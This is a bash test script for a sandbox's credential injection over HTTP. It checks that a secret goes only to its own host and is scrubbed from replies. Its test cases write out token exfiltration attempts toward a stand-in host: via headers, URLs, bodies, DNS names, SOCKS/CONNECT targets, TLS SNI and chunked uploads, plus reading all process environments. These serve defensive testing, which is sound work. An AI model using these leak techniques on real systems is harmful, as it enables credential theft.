#!/usr/bin/env bash
# inject.sh — credential injection on plaintext HTTP (issue 15): the run
# holds a placeholder, the egress process puts the value on the wire in
# request headers toward the secret's own host only, scrubs it out of that
# host's answers, and refuses the placeholder anywhere else (secret.exfil).
#
# The test host (tests/helpers/egress-net.bash) echoes the request line and
# headers it received and logs them to http.log: the log shows what went
# on the wire (the value), the run's output what came back (scrubbed to the
# placeholder). Every exfiltration path has its control next to it.
#
# shellcheck source=tests/lib.sh
. "$(dirname "$0")/../lib.sh"
require_bin
is_root || skip_all "needs root (network namespaces of the test's own)"
command -v ip >/dev/null && command -v nsenter >/dev/null && command -v python3 >/dev/null &&
	command -v curl >/dev/null || skip_all "needs ip, nsenter, python3 and curl"
new_workspace
# shellcheck source=tests/helpers/egress-net.bash
. "$RF_SRC/tests/helpers/egress-net.bash"

NP=(env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy
	-u NO_PROXY -u no_proxy)
VAL=rfv$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
printf '%s' "$VAL" | "$RF_BIN" secret set --state-dir "$RF_STATE" api >/dev/null 2>&1 ||
	bail_out "secret set failed"
NET=(--add-host "svc.test:$net.2" --add-host "other.test:$net.2" --allow-host svc.test
	--allow-host other.test)
INJ=(--inject "TOKEN=store:api@http://svc.test:8080" "${NET[@]}")
httplog() { cat "$TH/http.log" 2>/dev/null; }
exfils() { records | grep -c '"secret.exfil"'; }

# ---- refused at start ---------------------------------------------------------------------------
er --inject "TOKEN=store:api@http://svc.test:8080" -- true
is "$RF_RC" 125 "an injection in a run without any allow rule: refused at start (125)"
like "$RF_ERR" 'could never be used' "... saying why"
er --inject "TOKEN=store:api@http://svc.test:8080" --add-host "other.test:$net.2" --allow-host other.test -- true
is "$RF_RC" 125 "an injection whose host no allow rule reaches: refused at start (125)"
like "$RF_ERR" 'no allow rule lets the run reach svc.test' "... naming the host"
er --inject "TOKEN=store:api@svc.test" "${NET[@]}" -- true
is "$RF_RC" 0 "an injection whose only host is HTTPS (no port): accepted, terminated with the run CA (inject_tls.sh)"
er --inject "TOKEN=store:api@$net.2" --allow-host "$net.2" -- true
is "$RF_RC" 125 "an HTTPS injection to an address literal: refused at start (125), a leaf names a host"
like "$RF_ERR" 'cannot be terminated' "... saying why"
er --inject "TOKEN=store:api@http://svc.test" "${NET[@]}" -- true
is "$RF_RC" 125 "http://HOST without a port: refused (125), plaintext is an explicit choice of port"
er --inject "TOKEN=store:api@http://svc.test:443" "${NET[@]}" -- true
is "$RF_RC" 125 "http://HOST:443: refused (125), never cleartext on 443"

# HOST:PORT without http:// is TLS only: a plaintext request there never
# gets the value (the reviewer's downgrade: a run asking http:// of an
# HTTPS API's port)
rm -f "$TH/http.log"
er --inject "TOKEN=store:api@svc.test:8080" "${NET[@]}" -- "${NP[@]}" sh -c \
	'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/downgrade'
like "$RF_OUT" 'secret.exfil' "--inject ...@svc.test:8080 (TLS): a plaintext request to that port with the placeholder is refused as exfiltration"
unlike "$(httplog)" 'GET /downgrade' "... nothing reached the host (plaintext needs http://svc.test:8080)"
er --inject "TOKEN=store:api@*.svc.test" "${NET[@]}" -- true
is "$RF_RC" 125 "--inject with a wildcard host: refused (125)"

printf '%s' 0123456789abcdef | "$RF_BIN" secret set --state-dir "$RF_STATE" hexshort >/dev/null 2>&1
er --inject "TOKEN=store:hexshort@http://svc.test:8080" "${NET[@]}" -- true
is "$RF_RC" 125 "a value of 16 hex digits (it could be HTTP framing, so never scrubbed): refused at start (125)"
like "$RF_ERR" 'could not be kept out of the run.s responses' "... saying why"

# a long value (a JWT-sized token) is scrubbed too
LONG=eyJ$(head -c 300 /dev/urandom | base64 -w0 | tr -d '+/=' | head -c 400)
printf '%s' "$LONG" | "$RF_BIN" secret set --state-dir "$RF_STATE" long >/dev/null 2>&1
rm -f "$TH/http.log"
er --inject "TOKEN=store:long@http://svc.test:8080" "${NET[@]}" -- "${NP[@]}" sh -c \
	'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/long'
like "$(httplog)" "Bearer $LONG" "a ${#LONG}-byte value: the test host received it"
unlike "$RF_OUT" "$LONG" "... and its echo reached the run scrubbed (values past 344 bytes were not)"

# "Basic" outside Authorization is not decoded: the run cannot have the
# egress process re-encode the value at an offset of its choice
rm -f "$TH/http.log"
er "${INJ[@]}" -- "${NP[@]}" sh -c 'curl -sS -m 10 \
	-H "X-Request-Id: Basic $(printf "a%s" "$TOKEN" | base64 -w0)" http://svc.test:8080/reflect'
b64=$(httplog | sed -n 's/^X-Request-Id: Basic //p' | tr -d '\r')
unlike "$(printf '%s' "$b64" | base64 -d 2>/dev/null)" "$VAL" \
	"X-Request-Id: Basic base64(a + placeholder): the value never re-encoded there (reflected by the host)"

# ---- the proxy path -----------------------------------------------------------------------------
rm -f "$TH/http.log"
er "${INJ[@]}" -- sh -c 'echo "PH=$TOKEN"; curl -sS -m 10 -H "Authorization: Bearer $TOKEN" \
	http://svc.test:8080/proxied'
PH=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
like "$PH" '^[A-Za-z0-9_-]{22,}$' "the run's TOKEN is a placeholder of A-Z a-z 0-9 _ - (${#PH} characters)"
isnt "$PH" "$VAL" "... not the value"
is "${#PH}" "${#VAL}" "... as long as the value (default shape)"
like "$(httplog)" "Authorization: Bearer $VAL" "through the proxy: the test host received the real value"
unlike "$(httplog)" "$PH" "... and not the placeholder"
like "$(httplog)" 'Accept-Encoding: identity' "... with Accept-Encoding: identity (a compressed answer would hide the value)"
like "$RF_OUT" "Authorization: Bearer $PH" "the host's echo reached the run scrubbed back to the placeholder"
unlike "$RF_OUT" "$VAL" "... the run's output never holds the value"
like "$(records | grep '"secret.inject"' | grep '/proxied' | head -1)" '"path":"/proxied"' "secret.inject recorded for the request (name, host, method, path)"
unlike "$(records)" "$VAL" "... and the audit log holds no value"

# every request of a keep-alive connection is injected
rm -f "$TH/http.log"
er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -H "x-api-key: $TOKEN" http://svc.test:8080/one \
	http://svc.test:8080/two'
is "$(httplog | grep -c "x-api-key: $VAL")" 2 "keep-alive: both requests of one connection carry the value (x-api-key, no template)"

# Basic credentials with the placeholder as password (Python urllib)
rm -f "$TH/http.log"
er "${INJ[@]}" -- python3 -c '
import base64, os, urllib.request
tok = os.environ["TOKEN"]
req = urllib.request.Request("http://svc.test:8080/basic")
req.add_header("Authorization", "Basic " + base64.b64encode(("git:" + tok).encode()).decode())
print(urllib.request.urlopen(req, timeout=10).read().decode())'
B64=$(printf 'git:%s' "$VAL" | base64 -w0)
like "$(httplog)" "Authorization: Basic $B64" "Python urllib, Basic credentials: decoded, replaced, encoded again"
like "$RF_OUT" 'GET /basic' "... answered"
unlike "$RF_OUT" "$VAL" "... and no value in what the run saw"

# ---- the captured path --------------------------------------------------------------------------
er "${NET[@]}" -- getent ahostsv4 svc.test
case "$RF_OUT" in
198.18.*)
	rm -f "$TH/http.log"
	er "${INJ[@]}" -- "${NP[@]}" sh -c 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" \
		http://svc.test:8080/captured; echo "PH=$TOKEN"'
	PH2=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
	like "$(httplog)" "GET /captured" "captured (no proxy variables): the request arrived"
	like "$(httplog)" "Authorization: Bearer $VAL" "... with the real value"
	like "$RF_OUT" "Authorization: Bearer $PH2" "... and the echo came back scrubbed"
	unlike "$RF_OUT" "$VAL" "... with no value"
	isnt "$PH2" "$PH" "a placeholder is new for every run"
	# DNS: the placeholder in a name the run looks up
	n0=$(exfils)
	er "${INJ[@]}" -- sh -c 'getent hosts "x$TOKEN.svc.test"; echo "rc=$?"; getent hosts svc.test >/dev/null; echo "control=$?"'
	like "$RF_OUT" 'rc=2' "DNS: a name holding the placeholder is not resolved"
	like "$RF_OUT" 'control=0' "... the control (svc.test) is"
	ok_n=$(($(exfils) - n0))
	is "$((ok_n >= 1))" 1 "... secret.exfil recorded for the DNS name ($ok_n: one per query type)"
	like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"DNS name looked up"' "... saying where it stood"
	# split across labels, as a placeholder longer than a label's 63
	# characters must be
	n0=$(exfils)
	er "${INJ[@]}" -- sh -c 'a=$(printf %s "$TOKEN" | cut -c1-20); b=$(printf %s "$TOKEN" | cut -c21-)
		getent hosts "x$a.$b.svc.test"; echo "rc=$?"'
	like "$RF_OUT" 'rc=2' "DNS: the placeholder split across two labels: not resolved"
	ok_n=$(($(exfils) - n0))
	is "$((ok_n >= 1))" 1 "... secret.exfil recorded for it ($ok_n)"
	n0=$(exfils)
	er "${INJ[@]}" -- sh -c 'a=$(printf %s "$TOKEN" | cut -c1-20); getent hosts "x$a.svc.test"; echo "rc=$?"'
	is "$(($(exfils) - n0))" 0 "... the control (the first half alone, an unknown name): no secret.exfil"
	;;
*) skip "the captured path" "this build does not capture ($RF_OUT)" ;;
esac

# ---- the value is in no process's environment, file or state ----------------------------------
er "${INJ[@]}" -- sh -c 'for f in /proc/[0-9]*/environ; do cat "$f"; done | od -An -tx1 | tr -d " \n"'
HEXVAL=$(printf '%s' "$VAL" | od -An -tx1 | tr -d ' \n')
[ -n "$RF_OUT" ] && ok=1 || ok=0
is "$ok" 1 "the environments of the run's processes were read"
unlike "$RF_OUT" "$HEXVAL" "... and none holds the value"
check "the state dir (audit log, logs, store) holds no value" sh -c "! grep -rqF -- '$VAL' '$RF_STATE'"

# ---- exfiltration, each with its control --------------------------------------------------------
rm -f "$TH/http.log"
n0=$(exfils)
er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://other.test:8080/leak; echo
	curl -sS -m 10 http://other.test:8080/control'
like "$RF_OUT" 'refused: the placeholder of the injected secret TOKEN stands in the request header Authorization' \
	"another allowed host with the placeholder in a header: 403 saying why"
like "$RF_OUT" 'only ever replaced in request header values to the secret.s own hosts' "... and where this binding lets it go (no template: any header value)"
unlike "$(httplog)" 'GET /leak' "... nothing reached that host"
like "$RF_OUT" 'GET /control' "... the control (the same host, no placeholder) works"
is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
like "$(records | grep '"secret.exfil"' | tail -1)" '"destination":"other.test:8080"' "... naming the destination"

# a header name is never a place for it (only values are replaced): refused
# toward any host, the secret's own included
rm -f "$TH/http.log"
n0=$(exfils)
er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -H "X-$TOKEN: 1" http://other.test:8080/hname; echo
	curl -sS -m 10 -H "X-$TOKEN: 1" http://svc.test:8080/hname-own; echo
	curl -sS -m 10 -H "X-Plain: 1" http://other.test:8080/hname-ok; echo "PH=$TOKEN"'
PHN=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
like "$(sed -n 1p <<<"$RF_OUT")" 'other.test:8080 refused: the placeholder of the injected secret TOKEN stands in the request header name' \
	"the placeholder in a request header name to another host: 403 saying why"
like "$RF_OUT" 'svc.test:8080 refused: .*stands in the request header name' "... and to the secret's own host: 403 too"
unlike "$(httplog)" 'GET /hname ' "... nothing of the first reached a host"
unlike "$(httplog)" 'GET /hname-own' "... nor of the second"
like "$RF_OUT" 'GET /hname-ok' "... the control (the same header name without it) is served"
like "$(httplog)" 'X-Plain: 1' "... its header passed on"
is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"request header name"' "... where: request header name"
unlike "$(records)" "$PHN" "... the name itself (the placeholder) not recorded"

n0=$(exfils)
er "${INJ[@]}" -- sh -c 'curl -sS -m 10 "http://svc.test:8080/q?k=$TOKEN"; echo
	curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/ok'
like "$RF_OUT" 'stands in the request target' "the placeholder in the URL, even to the secret's host: 403"
unlike "$(httplog)" 'GET /q' "... nothing of it arrived"
like "$RF_OUT" 'GET /ok' "... the control (header, same host) works"
is $(($(exfils) - n0)) 1 "... secret.exfil recorded"

n0=$(exfils)
er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -d "k=$TOKEN" http://other.test:8080/post; echo
	curl -sS -m 10 -d "$TOKEN" http://svc.test:8080/post-own; echo
	curl -sS -m 10 -d "k=v" http://other.test:8080/post-ok'
like "$(sed -n 1p <<<"$RF_OUT")" 'other.test:8080 refused: .*stands in the request body' "the placeholder in a request body to another host: 403"
like "$RF_OUT" 'svc.test:8080 refused: .*stands in the request body' "... and to the secret's own host (no body replacement declared): 403 too"
like "$RF_OUT" 'POST /post-ok' "... the control (a body without it) is served"
is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"

# a chunked body is read as one stream: the placeholder cut between two
# chunks (and two reads) is found all the same, toward another host and
# toward the secret's own (no body replacement declared)
cp "$RF_SRC/tests/helpers/chunked-client.py" "$WS/chunked-client.py"
rm -f "$TH/http.log"
n0=$(exfils)
er "${INJ[@]}" -- sh -c 'python3 chunked-client.py http://other.test:8080/chunk-leak TOKEN 100 | head -n 2; echo
	python3 chunked-client.py http://svc.test:8080/chunk-own TOKEN 100 | head -n 2; echo
	printf "k=v" | curl -sS -m 10 -o /dev/null -w "control=%{http_code}\n" -H "Expect:" -T - -X POST http://other.test:8080/chunk-ok'
like "$(sed -n 1,2p <<<"$RF_OUT")" 'code=403' "a chunked body with the placeholder cut between two chunks, to another host: 403"
like "$RF_OUT" 'other.test:8080 refused: the placeholder of the injected secret TOKEN stands in the request body' "... saying where"
like "$RF_OUT" 'svc.test:8080 refused: .*stands in the request body' "... and to the secret's own host (no \"body\"): 403 too"
is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"request body"' "... where: request body"
unlike "$(httplog)" "$VAL" "... the value went to neither host (the heads went up before the body; their connections were cut)"
like "$RF_OUT" 'control=200' "... the control (a chunked body without it, same host) is served"

# HTTP/1.0 cannot be re-chunked: a Content-Length body over 1 MiB toward a
# "body" binding whose placeholder is longer than its value (60) goes up
# as it came, any placeholder in it refused. The body's last bytes once
# waited in the egress process for an event that never came (a hang, no
# 403): five tries (the stall took about every other one; inject_tls.sh
# makes it certain with a host that reads late), each a 403 at once
cat >"$WS/h10.json" <<JSON
{"version": 1,
 "secrets": [{"name": "BK", "deliver": "inject", "from": "store:api",
              "hosts": ["http://svc.test:8080"], "body": true, "placeholder": {"length": 60}}]}
JSON
rm -f "$TH/http.log"
n0=$(exfils)
er -p "$WS/h10.json" "${NET[@]}" -- sh -c 'head -c 1100000 /dev/zero | tr "\0" b >big; cp big ok; printf "&token=%s" "$BK" >>big
	for i in 1 2 3 4 5; do curl -sS -m 10 --http1.0 -o /dev/null -w "%{http_code}\n" --data-binary @big http://svc.test:8080/h10-$i; done
	curl -sS -m 10 --http1.0 -o /dev/null -w "control=%{http_code}\n" --data-binary @ok http://svc.test:8080/h10-ok'
is "$(grep -c '^403$' <<<"$RF_OUT")" 5 "HTTP/1.0, a 1.1 MB body with a longer placeholder at its end, five times: 403 each ($RF_ERR)"
is $(($(exfils) - n0)) 5 "... secret.exfil recorded each time"
like "$RF_OUT" 'control=200' "... the control (the same body without it) is served"
like "$(httplog | sed -n '/POST \/h10-ok /,/^--$/p')" 'Content-Length: 1100000' "... as it came"

n0=$(exfils)
er "${INJ[@]}" -- sh -c 'python3 ec.py connect "x$TOKEN.other.test:443" "x$TOKEN.other.test"
	python3 ec.py socks "x$TOKEN.other.test" 4443
	python3 ec.py socks other.test 4443
	a=$(printf %s "$TOKEN" | cut -c1-20); b=$(printf %s "$TOKEN" | cut -c21-)
	python3 ec.py connect "x$a.$b.other.test:443" "x$a.$b.other.test"'
like "$(sed -n 1p <<<"$RF_OUT")" '^HTTP/1\.1 403' "a CONNECT target holding the placeholder: 403"
like "$(sed -n 2p <<<"$RF_OUT")" '^socks REP=2' "a SOCKS5 host holding the placeholder: refused (REP=2)"
like "$(sed -n 3p <<<"$RF_OUT")" '^socks REP=0' "... the control (SOCKS5 to other.test) works"
like "$(tail -n 1 <<<"$RF_OUT")" '^HTTP/1\.1 403' "a CONNECT target holding it split across two labels: 403"
is $(($(exfils) - n0)) 3 "... secret.exfil recorded for the three"
# a SOCKS5 name that is not UTF-8 is kept as \xNN text, cut to fit: the
# placeholder after 60 such bytes would be cut off
n0=$(exfils)
er "${INJ[@]}" -- sh -c 'j=$(printf "\377%.0s" $(seq 1 60))
	python3 ec.py socks "$j$TOKEN.other.test" 4443; python3 ec.py socks "${j}x.other.test" 4443'
like "$(sed -n 1p <<<"$RF_OUT")" '^socks REP=2' "a SOCKS5 name of 60 non-UTF-8 bytes and the placeholder: refused (REP=2)"
like "$(sed -n 2p <<<"$RF_OUT")" '^socks REP=2' "... as is the control (the same bytes, no placeholder: not a host name)"
is $(($(exfils) - n0)) 1 "... secret.exfil recorded for the first alone"

if [ -s "$TH/cert.pem" ]; then
	n0=$(exfils)
	er "${INJ[@]}" -- sh -c 'python3 ec.py connect svc.test:8443 "x$TOKEN.svc.test"
		python3 ec.py connect svc.test:8443 svc.test'
	like "$(sed -n 2p <<<"$RF_OUT")" '^tls failed' "a TLS SNI holding the placeholder: the tunnel is closed"
	like "$(sed -n 4p <<<"$RF_OUT")" '^tls ok' "... the control (SNI svc.test) completes its handshake"
	is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
	like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"TLS SNI"' "... where: TLS SNI"
else
	skip "the SNI case" "no openssl for the test host's certificate"
fi

# ---- a header template limits where the value goes ------------------------------------------
# With "header" the value goes into that header only: the placeholder in
# any other header, even toward the secret's own host, is refused
# (secret.exfil), never replaced
cat >"$WS/templ.json" <<JSON
{"version": 1,
 "secrets": [{"name": "api", "deliver": "inject", "from": "store:api", "env": "TOKEN",
              "hosts": ["http://svc.test:8080"], "header": "x-api-key: {}"}]}
JSON
rm -f "$TH/http.log"
n0=$(exfils)
er -p "$WS/templ.json" "${NET[@]}" -- sh -c 'curl -sS -m 10 -H "X-Echo: $TOKEN" http://svc.test:8080/t-echo; echo
	curl -sS -m 10 -A "agent/$TOKEN" http://svc.test:8080/t-ua; echo
	curl -sS -m 10 -H "x-api-key: $TOKEN" http://svc.test:8080/t-ok; echo "PH=$TOKEN"'
PHT=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
like "$(sed -n 1p <<<"$RF_OUT")" 'svc.test:8080 refused: the placeholder of the injected secret api stands in the request header X-Echo \(not the binding.s header\)' \
	"template x-api-key, the placeholder in X-Echo to the secret's own host: 403 saying why"
like "$RF_OUT" 'refused: .*request header User-Agent \(not the binding.s header\)' "... in User-Agent: 403 too"
like "$RF_OUT" 'only ever replaced in the request header x-api-key to the secret.s own hosts' "... the 403 names the one header the value goes into"
unlike "$(httplog)" 'GET /t-echo|GET /t-ua' "... neither reached the host"
unlike "$(httplog | grep -iv '^x-api-key:')" "$VAL" "... the value went into no header but x-api-key"
is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
like "$(records | grep '"secret.exfil"' | tail -2 | head -1)" '"where":"request header X-Echo \(not the binding.s header\)"' "... where: request header X-Echo (not the binding's header)"
like "$(httplog | grep -A8 'GET /t-ok')" "x-api-key: $VAL" "the control: the placeholder in x-api-key itself, replaced by the value"
unlike "$(httplog)" "$PHT" "... the placeholder reached the host nowhere"

# ---- on_exfil "kill" ----------------------------------------------------------------------------
cat >"$WS/kill.json" <<JSON
{"version": 1,
 "secrets": [{"name": "api", "deliver": "inject", "from": "store:api", "env": "TOKEN",
              "hosts": ["http://svc.test:8080"], "header": "x-api-key: {}", "on_exfil": "kill"}]}
JSON
rm -f "$TH/http.log"
er -p "$WS/kill.json" "${NET[@]}" -- sh -c 'curl -sS -m 10 http://svc.test:8080/templ; echo
	curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://other.test:8080/leak2; echo
	sleep 20; echo survived'
like "$(httplog)" "x-api-key: $VAL" "policy header template: x-api-key set on a request that named no placeholder"
unlike "$RF_OUT" 'survived' "on_exfil kill: the run ended at the exfiltration attempt"
isnt "$RF_RC" 0 "... with a failure status ($RF_RC)"
like "$(records | grep '"run.kill"' | tail -1)" 'secret.exfil' "... run.kill recorded with the reason"

# ---- the grant ends: injection stops ------------------------------------------------------------
cat >"$WS/ttl.json" <<JSON
{"version": 1,
 "secrets": [{"name": "TOKEN", "deliver": "inject", "from": "store:api",
              "hosts": ["http://svc.test:8080"], "ttl": "2s"}]}
JSON
rm -f "$TH/http.log"
# while the grant lives the egress process adds Accept-Encoding: identity
# toward the host; the run waits until it no longer does (bounded)
er -p "$WS/ttl.json" "${NET[@]}" -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/before >/dev/null
	i=0; while curl -sS -m 10 http://svc.test:8080/poll | grep -q "Accept-Encoding: identity" && [ $i -lt 600 ]; do i=$((i + 1)); sleep 0.05; done
	curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/after >/dev/null; echo "PH=$TOKEN"'
PH3=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
like "$(httplog | grep -A6 'GET /before')" "Authorization: Bearer $VAL" "while the grant lives the value is injected"
like "$(httplog | grep -A6 'GET /after')" "Authorization: Bearer $PH3" "after its ttl the placeholder goes out as it is (worthless)"
unlike "$(httplog | grep -A6 'GET /after')" "$VAL" "... never the value"
like "$(records | grep '"secret.revoke"' | grep '"name":"TOKEN"' | tail -1)" 'injection stops' "... secret.revoke says injection stopped"

# ---- grant RUN --revoke-secret NAME: injection stops from the next request ------------------
# The run sends one request, writes its run id and waits; the test revokes
# the injection from outside (ringfence grant) and lets it send the next.
rm -f "$TH/http.log" "$WS/rid" "$WS/go"
(
	er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/rv-before >/dev/null
		echo "$RINGFENCE_RUN_ID" >rid.tmp && mv rid.tmp rid
		i=0; while [ ! -e go ] && [ $i -lt 1200 ]; do i=$((i + 1)); sleep 0.05; done
		curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/rv-after >/dev/null; echo "PH=$TOKEN"'
	printf '%s\n' "$RF_OUT" >"$WS.rvout"
) &
RVP=$!
for _ in $(seq 1 1200); do [ -s "$WS/rid" ] && break; sleep 0.05; done
RID=$(cat "$WS/rid" 2>/dev/null)
out=$("$RF_BIN" grant --state-dir "$RF_STATE" "$RID" --revoke-secret TOKEN 2>&1)
is "$?" 0 "grant RUN --revoke-secret TOKEN on the live run: exit 0 ($out)"
touch "$WS/go"
wait "$RVP"
PH4=$(sed -n 's/^PH=//p' "$WS.rvout")
like "$(httplog | grep -A6 'GET /rv-before')" "Authorization: Bearer $VAL" "before the revocation the host received the value"
like "$(httplog | grep -A6 'GET /rv-after')" "Authorization: Bearer $PH4" "after it, the next request carried the placeholder as it is (worthless)"
unlike "$(httplog | grep -A6 'GET /rv-after')" "$VAL" "... never the value"
rev=$(records | grep "\"run\":\"$RID\"" | grep '"secret.revoke"' | grep '"name":"TOKEN"' | head -1)
like "$rev" '"reason":"revoked by uid [0-9]+"' "secret.revoke recorded for the run, the revoker's reason"
like "$rev" '"effect":"injection stops' "... saying injection stopped"
is "$(records | grep "\"run\":\"$RID\"" | grep '"secret.inject"' | grep -c 'rv-after')" 0 "... and no secret.inject for the request after it"

done_testing
